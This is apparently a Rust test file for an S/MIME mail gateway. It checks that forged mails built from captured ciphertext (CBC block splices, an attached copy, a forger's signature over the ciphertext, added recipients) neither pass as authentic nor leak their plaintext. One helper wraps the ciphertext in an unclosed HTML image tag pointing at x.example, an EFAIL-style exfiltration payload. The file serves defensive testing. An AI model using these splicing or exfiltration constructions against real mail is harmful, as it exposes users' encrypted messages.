//! Somebody else's ciphertext dressed up so that its plaintext gets out, or passes for the forger's or the author's own
//! (REQUIREMENTS J4).

use super::*;
use crate::cms::splicing;

const FROM_MALLORY: &str = "From: mallory@nec.example\r\nTo: bob@abc.example\r\n";
const BOB: &[&str] = &["bob@abc.example"];

/// What alice once sent to bob.
fn captured(world: &World, cipher: ContentCipher) -> Vec<Bytes> {
    world.sealed(&world.signed(PAYLOAD, &world.alice.signing), cipher, &world.bob)
}

/// Blocks of the ciphertext put elsewhere, and known ones before them: malleability gadgets.
fn spliced(world: &World) -> Vec<Bytes> {
    let entity = Entity::parse(mail(FROM_ALICE, &captured(world, CBC))).unwrap();
    let der = mime::decode_body(&entity).unwrap().to_vec();
    let end = der.len();
    let splice = |from: usize, to: usize, xor: u8| {
        let mut der = der.clone();
        let block: Vec<u8> = der[end - from..end - from + 16].iter().map(|o| o ^ xor).collect();
        der[end - to..end - to + 16].copy_from_slice(&block);
        mail(FROM_ALICE, &[mime::write::pkcs7_mime(&[], "enveloped-data", der)])
    };
    let places = (3..30).map(|block| block * 16);
    places.flat_map(|at| [splice(at, at - 32, 0), splice(at, 16, 0), splice(at, at, 1)]).collect()
}

/// An encrypted part in the middle of what would send it away.
fn around(world: &World, cipher: ContentCipher) -> Bytes {
    let sealed = joined(&captured(world, cipher));
    let parts = [
        b"Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n\
          <img src=\"http://x.example/\r\n--b\r\n",
        &sealed[..],
        b"\r\n--b\r\nContent-Type: text/html\r\n\r\n\">\r\n--b--\r\n",
    ];
    mail(FROM_MALLORY, &[Bytes::from(parts.concat())])
}

fn attached(world: &World, cipher: ContentCipher) -> Bytes {
    let inner = mail(FROM_ALICE, &captured(world, cipher));
    let head = &b"Content-Type: message/rfc822\r\n\r\n"[..];
    mail(FROM_MALLORY, &[Bytes::from([head, &inner].concat())])
}

/// The ciphertext under the forger's own signature.
fn taken_over(world: &World, cipher: ContentCipher) -> Bytes {
    let mallory = world.authority.key("mallory@nec.example", KeyUsagePurpose::DigitalSignature);
    let sealed = joined(&captured(world, cipher));
    mail(FROM_MALLORY, &world.signed(&sealed, &mallory))
}

#[test]
fn no_plaintext_gets_out_and_nothing_passes() {
    let world = World::new();
    let mut mails = spliced(&world);
    for cipher in [GCM, CBC] {
        let captured = captured(&world, cipher);
        mails.extend([
            around(&world, cipher),
            attached(&world, cipher),
            taken_over(&world, cipher),
            mail(FROM_MALLORY, &captured),
        ]);
    }
    let pass = Decision {
        unauthenticated_encryption: UnauthenticatedEncryption::Pass,
        ..Decision::default()
    };
    for (number, mail) in mails.iter().enumerate() {
        for decision in [Decision::default(), pass] {
            let outcome = world.take_with(decision, mail, BOB);
            assert_ne!(outcome.report.verdict, Verdict::Pass, "mail {number}");
            let Ok(done) = &outcome.result else { continue };
            for parcel in 0..done.parcels.len() {
                assert!(!outcome.message(parcel).contains("quick brown"), "mail {number}");
            }
        }
    }
}

/// Unsigned inside, it is bob's to read; it is not the forger's word for that.
#[test]
fn a_signature_around_another_ones_ciphertext_makes_no_author() {
    let world = World::new();
    let mallory = world.authority.key("mallory@nec.example", KeyUsagePurpose::DigitalSignature);
    let sealed = joined(&world.sealed(&[Bytes::from_static(PAYLOAD)], GCM, &world.bob));
    let outcome = world.take(&mail(FROM_MALLORY, &world.signed(&sealed, &mallory)));
    row(&outcome, "250", Delivered::Plain, Verdict::None, Some(Reason::EncryptedUnsigned));
}

/// Nothing authenticates who is named as a recipient: whoever has the ciphertext can add himself.
#[test]
fn who_added_himself_to_the_recipients_gets_the_ciphertext() {
    let world = World::new();
    let both = &["bob@abc.example", "carol@abc.example"];
    let signed = world.signed(PAYLOAD, &world.alice.signing);
    let der = |entity: &[Bytes]| {
        mime::decode_body(&Entity::parse(mail("", entity)).unwrap()).unwrap().to_vec()
    };
    for cipher in [GCM, CBC] {
        let captured = der(&world.sealed(&signed, cipher, &world.bob));
        let own = der(&world.sealed(&[Bytes::from_static(PAYLOAD)], cipher, &world.carol));
        let forged = splicing::with_recipients_of(&captured, &own).unwrap();
        let forged = mail(FROM_ALICE, &[mime::write::pkcs7_mime(&[], "enveloped-data", forged)]);
        let outcome = world.take_with(Decision::default(), &forged, both);
        row(&outcome, "250", Delivered::Plain, Verdict::Pass, None);
        let parcels = &outcome.result.as_ref().unwrap().parcels;
        assert_eq!((&parcels[0].recipients, &parcels[1].recipients), (&vec![0], &vec![1]));
        assert!(outcome.message(0).contains("quick brown"));
        assert!(!outcome.message(1).contains("quick brown"), "carol reads bob's mail");
        assert!(!outcome.message(1).contains("smime=pass"));
        // It may have been made to try her key (J1, J5).
        assert!(outcome.report.named_in_vain);

        // Whom the sender did encrypt to reads it, whoever's key is the first.
        let honest = [chosen(&world.bob), chosen(&world.carol)];
        let honest: Vec<&Chosen> = honest.iter().collect();
        let sealed = encrypt::smime::encrypt(&signed, cipher, &honest).unwrap();
        let outcome = world.take_with(Decision::default(), &mail(FROM_ALICE, &sealed), both);
        row(&outcome, "250", Delivered::Plain, Verdict::Pass, None);
        assert_eq!(outcome.result.as_ref().unwrap().parcels[0].recipients, [0, 1]);
        assert!(!outcome.report.named_in_vain);
    }
}
